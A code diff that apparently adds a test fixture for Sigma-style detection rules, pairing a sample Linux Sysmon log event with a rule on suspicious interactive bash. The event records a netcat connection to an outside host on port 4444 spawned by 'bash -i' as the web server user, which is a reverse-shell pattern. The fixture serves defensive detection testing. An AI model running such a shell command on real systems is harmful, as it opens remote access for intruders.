@@ -31,6 +31,15 @@ WHOAMI = {
                 "parent": {"executable": "/usr/sbin/apache2", "pid": 1201}},
     "user": {"name": "www-data"},
 }
+SYSMON_BASH = (
+    '<14>Oct 26 14:03:21 ubuntu sysmon: <Event><System><Provider Name="Linux-Sysmon" '
+    'Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version>'
+    '<TimeCreated SystemTime="2021-10-26T14:03:21.569716000Z"/><EventRecordID>13'
+    '</EventRecordID><Channel>Linux-Sysmon/Operational</Channel><Computer>ubuntu</Computer>'
+    '</System><EventData><Data Name="ProcessId">2461</Data><Data Name="Image">/usr/bin/nc'
+    '</Data><Data Name="CommandLine">nc 203.0.113.5 4444</Data><Data Name="CurrentDirectory">'
+    '/tmp</Data><Data Name="User">www-data</Data><Data Name="ParentImage">/usr/bin/bash</Data>'
+    '<Data Name="ParentCommandLine">bash -i</Data></EventData></Event>')
 K8S_DELETE_EVENTS = {
     "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata",
     "auditID": "0b7e3c1e-1111-4222-8333-944455556666", "stage": "ResponseComplete",
@@ -66,6 +75,8 @@ CASES: dict[str, tuple[str, str, str]] = {
         'a2="kernel.randomize_va_space=0"', "linux.audit"),
     "linux/process_creation/proc_creation_lnx_webshell_detection.yml": (
         "tcp_json", json.dumps(WHOAMI), "endpoint.events"),
+    "linux/process_creation/proc_creation_lnx_susp_interactive_bash.yml": (
+        "syslog_tcp", SYSMON_BASH, "linux.sysmon"),
     "application/kubernetes/audit/kubernetes_audit_events_deleted.yml": (
         "tcp_json", json.dumps(K8S_DELETE_EVENTS), "kubernetes.audit"),
     "network/zeek/zeek_dns_mining_pools.yml": (
